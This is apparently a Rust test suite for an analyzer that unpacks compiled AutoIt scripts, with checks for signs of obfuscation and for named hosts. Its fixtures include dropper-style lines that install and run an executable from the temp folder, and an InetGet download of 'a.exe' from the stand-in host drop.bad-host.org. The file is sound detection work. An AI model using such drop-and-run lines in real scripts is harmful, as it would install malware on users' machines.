//! Scripts that the compiler of AutoIt made: what becomes text again, what is seen in it, and what is said of the rest.

use analyzers::{Analyzer, Budget, Cancel, Child, Findings, LayerId, Limit, Limits, Record, Sample};
use analyzers_packed::Packed;
use proptest::prelude::*;
use specimens::autoit::{compiled, packed};
use specimens::pe;
use triage::triage;

const SCRIPT: &str = "packed.autoit.script";

/// An image with `bytes` behind it.
fn image(bytes: Vec<u8>) -> Vec<u8> {
    pe::ordinary().overlay(bytes).build()
}

fn examine(bytes: &[u8], limits: Limits) -> (Record, Vec<Child<'_>>) {
    let kind = triage(bytes);
    let mut findings = Findings::new(Record::new(kind, Budget::new(limits, Cancel::default())), LayerId::ARTIFACT);
    Packed.analyze(Sample { bytes, kind }, &mut findings);
    findings.finish()
}

/// Ids of what is seen, and why it is incomplete.
fn said(bytes: &[u8], limits: Limits) -> (Vec<String>, Vec<String>) {
    let (record, _) = examine(bytes, limits);
    let seen = record.evidence.iter().map(|seen| seen.indicator.to_string()).collect();
    (seen, record.incomplete.iter().map(ToString::to_string).collect())
}

/// The names and bytes that are handed over.
fn children(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let (_, children) = examine(bytes, Limits::default());
    assert!(children.iter().all(|child| child.is_part));
    children.into_iter().map(|child| (child.name, child.bytes.into_owned())).collect()
}

/// A script of these lines shows these signs beside its text.
#[track_caller]
fn check_signs(lines: &[&[&str]], expected: &[&str]) {
    let expected = std::iter::once(SCRIPT).chain(expected.iter().copied()).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(said(&image(compiled(lines, &[])), Limits::default()), (expected, vec![]));
}

#[test]
fn a_script_becomes_text_and_its_files_are_what_they_were() {
    let program = pe::injector().build();
    let lines: &[&[&str]] = &[
        &["$path", "=", "@TempDir", "&", "\"\\set\"up\".exe"],
        &["FileInstall", "(", "\"setup.exe", ",", "$path", ",", "1", ")"],
        &["Run", "(", "$path", ")"],
    ];
    let bytes = image(compiled(lines, &[("C:\\build\\setup.exe", &program), ("empty.txt", b"")]));
    let text = "$path = @TempDir & \"\\set\"\"up\"\".exe\" \r\nFileInstall ( \"setup.exe\" , $path , 1 ) \r\nRun ( $path ) \r\n";
    assert_eq!(
        children(&bytes),
        [
            ("script.au3".to_owned(), text.as_bytes().to_vec()),
            ("setup.exe".to_owned(), program),
            ("empty.txt".to_owned(), vec![])
        ]
    );
    assert_eq!(said(&bytes, Limits::default()), (vec![SCRIPT.to_owned()], vec![]));
}

#[test]
fn long_runs_are_packed_and_unpacked() {
    for length in [1, 3, 5, 6, 12, 13, 43, 44, 45, 298, 299, 554, 70_000] {
        let content = [b"x".repeat(length), b"end".to_vec()].concat();
        assert!(length < 100 || packed(&content).len() < length);
        let [_, file] = &children(&image(compiled(&[&["Exit"]], &[("run.txt", &content)])))[..] else { panic!() };
        assert!(file.1 == content, "{length}");
    }
}

#[test]
fn scripts_that_hide_what_they_do_are_told() {
    let digits = format!("\"0x{}", "9f".repeat(100));
    check_signs(&[&["$code", "=", &digits]], &["packed.autoit.hex_data"]);
    check_signs(&[&["$code", "=", &digits[..digits.len() - 1]]], &[]);
    check_signs(&[&["$words", "=", &format!("{digits} g")]], &[]);
    check_signs(&[&["DLLCALLADDRESS", "(", "$place", ")"]], &["packed.autoit.machine_code"]);
    check_signs(&[&["DllCall", "(", "$place", ")"]], &[]);
    let call: &[&str] = &["$name", "(", "1", ")"];
    check_signs(&[call; 100], &["packed.autoit.hidden_calls"]);
    check_signs(&[call; 99], &[]);
    check_signs(&[&["$list", "[", "1", "]"][..]; 200], &[]);
}

#[test]
fn a_host_in_a_script_is_named() {
    let line: &[&str] = &["InetGet", "(", "\"http://drop.bad-host.org/a.exe", ")"];
    let (record, _) = examine(&image(compiled(&[line], &[])), Limits::default());
    assert_eq!(record.hosts.domains(), ["drop.bad-host.org"]);
}

#[test]
fn what_cannot_be_read_is_named() {
    let whole = compiled(&[&["Exit"], &["Exit"]], &[("setup.exe", b"MZ and more than that")]);
    // The mark of each file, its sizes, and what is packed stand behind 40 bytes of the mark and a checksum.
    let mut other_key = whole.clone();
    other_key[41] ^= 1;
    let refused = |part: &str| (vec![], vec![format!("unaccounted.{part}")]);
    assert_eq!(said(&image(other_key), Limits::default()), refused("the script of AutoIt"));
    assert_eq!(said(&image(whole[..60].to_vec()), Limits::default()), refused("the script of AutoIt"));
    // Too many lines are told, so that the tokens end before them.
    let lines = 4096u32.to_le_bytes();
    let cut = specimens::autoit::with_script(&[&lines[..], &[0x05, 1, 0, 0, 0, 0x7f]].concat(), &[]);
    let expected = (vec![SCRIPT.to_owned()], vec!["unaccounted.the end of the script of AutoIt".to_owned()]);
    assert_eq!(said(&image(cut), Limits::default()), expected);
    let unknown = specimens::autoit::with_script(&[1, 0, 0, 0, 0x99, 0x7f], &[]);
    assert_eq!(said(&image(unknown), Limits::default()), expected);
}

#[test]
fn nothing_is_unpacked_beyond_the_budget() {
    let big = vec![0; 1 << 20];
    let bytes = image(compiled(&[&["Exit"]], &[("big.bin", &big)]));
    let small_stream = Limits { stream_bytes_max: 1 << 19, ..Limits::default() };
    assert_eq!(said(&bytes, small_stream), (vec![SCRIPT.to_owned()], vec!["unaccounted.big.bin".to_owned()]));
    let (record, children) = examine(&bytes, Limits { steps_max: 200, ..Limits::default() });
    assert_eq!((children.len(), record.budget.hit().collect::<Vec<_>>()), (1, vec![Limit::Steps]));
}

#[test]
fn images_without_the_mark_are_no_scripts() {
    let mut other = compiled(&[&["Exit"]], &[]);
    // The form of AutoIt 3.2.
    other[23] = b'5';
    for bytes in [pe::ordinary().build(), image(other), image(b"AU3!EA06".to_vec())] {
        assert_eq!(said(&bytes, Limits::default()), (vec![], vec![]));
    }
}

proptest! {
    #[test]
    fn damaged_scripts_are_read_as_far_as_they_go(cut in 0usize..2000, at in 0usize..2000, flip in 1u8..) {
        let program = pe::ordinary().build();
        let mut behind = compiled(&[&["Run", "(", "\"a.exe", ")"]], &[("a.exe", &program[..600])]);
        behind.truncate(cut.max(1));
        let place = at % behind.len();
        behind[place] ^= flip;
        let bytes = image(behind);
        let (record, children) = examine(&bytes, Limits::default());
        prop_assert!(children.len() <= 3);
        prop_assert!(record.evidence.iter().all(|seen| seen.span.end <= bytes.len()));
    }
}
